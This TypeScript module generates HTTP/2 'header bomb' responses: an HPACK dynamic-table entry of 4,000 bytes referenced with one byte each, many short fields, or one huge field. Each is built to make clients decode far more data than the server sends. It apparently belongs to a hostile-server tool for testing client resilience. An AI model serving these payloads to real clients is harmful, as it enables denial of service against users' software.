/**
 * Header sections that cost a client more than they cost the server.
 *
 * @module
 */

import { byName } from './by-name.ts'
import { Flag } from './frames.ts'
import { toBlock, toLiteral } from './header-blocks.ts'

/**
 * What the header section contains:
 *
 * - `references`: one field of 4,000 bytes, added to HPACK's table once, and then referenced over and over, with one
 *   byte each
 * - `many fields`: many short fields
 * - `long field`: one long field
 */
export type HeaderBomb = 'references' | 'many fields' | 'long field'

/** How large a header bomb is. */
export interface BombOptions {
  /**
   * How many bytes of header fields the client decodes.
   *
   * @default 64_000_000 for `references`, else 1_000_000
   */
  readonly bytes?: number
}

const STATUS_200 = Buffer.of(0x88)
const VALUE = 4_000
/** The newest entry of the dynamic table (RFC 7541 §2.3.3): index 62, as an indexed field. */
const NEWEST = 0xbe

/** Creates the frames of a response that ends with its header section. */
export function toBomb(kind: HeaderBomb, streamId: number, { bytes }: BombOptions): Buffer {
  const blocks: Readonly<Record<HeaderBomb, () => Buffer>> = {
    references: () => {
      const count = Math.ceil((bytes ?? 64_000_000) / VALUE) - 1
      return Buffer.concat([
        toLiteral(0x40, 'x', 'v'.repeat(VALUE - 1)),
        Buffer.alloc(Math.max(0, count), NEWEST),
      ])
    },
    'many fields': () => {
      const fields: Buffer[] = []
      for (let left = bytes ?? 1_000_000, index = 0; left > 0; index++) {
        const name = `x-${index}`
        fields.push(toLiteral(0, name, 'v'))
        left -= name.length + 1
      }
      return Buffer.concat(fields)
    },
    'long field': () => toLiteral(0, 'x', 'v'.repeat((bytes ?? 1_000_000) - 1)),
  }
  const fieldBlock = byName('header bomb', blocks, kind)()
  return toBlock(streamId, Buffer.concat([STATUS_200, fieldBlock]), Flag.END_STREAM)
}
